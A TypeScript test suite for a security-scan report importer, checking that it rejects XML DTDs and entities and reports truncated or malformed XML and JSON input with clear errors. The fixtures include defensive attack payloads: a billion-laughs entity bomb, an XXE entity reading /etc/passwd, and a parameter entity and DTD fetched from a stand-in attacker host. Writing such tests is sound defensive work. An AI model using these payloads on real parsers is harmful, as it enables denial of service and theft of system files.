import { describe, expect, it } from 'vitest';
import { DTD_NOT_ALLOWED } from './errors.ts';
import { parseGreenbone } from './greenbone.ts';
import { importReport, type ScanFormat } from './index.ts';
import { parseNmap } from './nmap.ts';
import { chunked, collect, expectScanImportError, hasSample, readSample } from './test-support.ts';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE report [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<report><report><results><result><host>&lol9;</host></result></results></report></report>`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE nmaprun [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<nmaprun><host><address addr="&xxe;" addrtype="ipv4"/></host></nmaprun>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<report/>`;

const EXTERNAL_DTD = `<?xml version="1.0"?><!DOCTYPE nmaprun SYSTEM "http://attacker.invalid/x.dtd"><nmaprun/>`;
const PUBLIC_DTD = `<?xml version="1.0"?><!DOCTYPE report PUBLIC "-//X//DTD X//EN" "x.dtd"><report/>`;
const EMPTY_SUBSET = `<!DOCTYPE report []><report/>`;

describe('DTDs and entities are rejected', () => {
  const cases: [string, string, ScanFormat][] = [
    ['billion laughs', BILLION_LAUGHS, 'greenbone'],
    ['external entity (XXE)', EXTERNAL_ENTITY, 'nmap'],
    ['parameter entity', PARAMETER_ENTITY, 'greenbone'],
    ['external DTD (SYSTEM)', EXTERNAL_DTD, 'nmap'],
    ['external DTD (PUBLIC)', PUBLIC_DTD, 'greenbone'],
    ['empty internal subset', EMPTY_SUBSET, 'greenbone'],
  ];
  for (const [name, xml, format] of cases) {
    it(`${name}: explicit format and auto-detection`, async () => {
      for (const options of [{ format }, {}]) {
        const error = await expectScanImportError(() => importReport(xml, options));
        expect(error).toMatchObject({ reason: 'forbidden-dtd', bareMessage: DTD_NOT_ALLOWED, status: 400 });
        expect(error.message).toContain(DTD_NOT_ALLOWED);
      }
    });
  }

  it('rejects the DTD even when the root element is too far away to detect the format', async () => {
    const xml = `<!DOCTYPE report [<!ENTITY a "${'x'.repeat(70_000)}">]><report/>`;
    const error = await expectScanImportError(() => importReport(xml));
    expect(error.reason).toBe('forbidden-dtd');
  });

  it('rejects references to undeclared entities', async () => {
    const error = await expectScanImportError(() => collect(parseNmap('<nmaprun>&xxe;</nmaprun>')));
    expect(error).toMatchObject({ reason: 'malformed', line: 1 });
  });

  it('accepts the bare <!DOCTYPE nmaprun> every Nmap file carries', async () => {
    const { summary } = await collect(
      parseNmap('<?xml version="1.0"?>\n<!DOCTYPE nmaprun>\n<nmaprun version="7.94"/>'),
    );
    expect(summary.scannerVersion).toBe('7.94');
  });

  it('limits what may come before the root element', async () => {
    const xml = Buffer.from(`<!--${'x'.repeat(2_000_000)}--><report/>`);
    const error = await expectScanImportError(() => collect(parseGreenbone(chunked(xml, 65536))));
    expect(error.reason).toBe('malformed');
  });
});

describe('malformed and truncated input', () => {
  const XML = [
    ['gvm/defectdojo_openvas_many_vuln.xml', 'greenbone'],
    ['gvm/defectdojo_openvas_one_vuln.xml', 'greenbone'],
    ['nmap/defectdojo_nmap_multiple_port.xml', 'nmap'],
    ['nmap/generated_nmap-7.93_localhost_ssl-enum-ciphers.xml', 'nmap'],
  ] as const;
  for (const [file, format] of XML) {
    it.skipIf(!hasSample(file))(`${file} cut short is reported as truncated`, async () => {
      const bytes = readSample(file);
      for (const fraction of [0.1, 0.5, 0.9]) {
        const error = await expectScanImportError(() =>
          importReport(bytes.subarray(0, Math.floor(bytes.length * fraction)), { format }),
        );
        expect(error).toMatchObject({ format, reason: 'truncated' });
        expect(error.line).toBeGreaterThan(0);
      }
      // Only the root's closing tag missing.
      const cut = bytes
        .toString('utf8')
        .trimEnd()
        .replace(/<\/\w+>$/, '');
      expect(await expectScanImportError(() => importReport(cut, { format }))).toMatchObject({
        reason: 'truncated',
      });
    });
  }

  const JSON_FILES = [
    ['testssl/generated_testssl-3.0.8_localhost_flat.json', 'testssl'],
    ['testssl/generated_testssl-3.0.8_localhost_pretty.json', 'testssl'],
    ['internetnl/internetnl_batch_v2_web_rpki.json', 'internetnl'],
    ['internetnl/internetnl_batch_v2_mail_rpki.json', 'internetnl'],
    ['nuclei/defectdojo_nuclei_many_findings_new.jsonl', 'nuclei'],
  ] as const;
  for (const [file, format] of JSON_FILES) {
    it.skipIf(!hasSample(file))(`${file} cut short is reported as truncated`, async () => {
      const bytes = readSample(file);
      for (const fraction of [0.1, 0.3, 0.5, 0.7, 0.9]) {
        const error = await expectScanImportError(() =>
          importReport(bytes.subarray(0, Math.floor(bytes.length * fraction)), { format }),
        );
        expect(error).toMatchObject({ format, reason: 'truncated' });
        expect(error.line).toBeGreaterThan(0);
      }
    });
  }

  it('reports line and column of XML syntax errors', async () => {
    const error = await expectScanImportError(() =>
      collect(parseGreenbone('<report>\n  <report>\n    <results></report>\n</report>')),
    );
    expect(error).toMatchObject({ format: 'greenbone', reason: 'malformed', line: 3 });
    expect(error.column).toBeGreaterThan(10);
    expect(error.message).toMatch(/line 3, column \d+/);
  });

  it('reports line and column of JSON syntax errors', async () => {
    const error = await expectScanImportError(() =>
      importReport('[\n  {"id": "a",, "severity": "OK"}\n]', { format: 'testssl' }),
    );
    expect(error).toMatchObject({ reason: 'malformed', line: 2, column: 14 });
  });

  it('rejects content after the root element', async () => {
    const error = await expectScanImportError(() => collect(parseNmap('<nmaprun/><nmaprun/>')));
    expect(error.reason).toBe('malformed');
  });

  it.skipIf(!hasSample('gvm/defectdojo_openvas_many_vuln.xml'))(
    'limits the size of one XML record',
    async () => {
      const bytes = readSample('gvm/defectdojo_openvas_many_vuln.xml');
      const error = await expectScanImportError(() =>
        collect(parseGreenbone(bytes, { maxRecordBytes: 1000 })),
      );
      expect(error).toMatchObject({ reason: 'too-large', status: 413 });
    },
  );
});
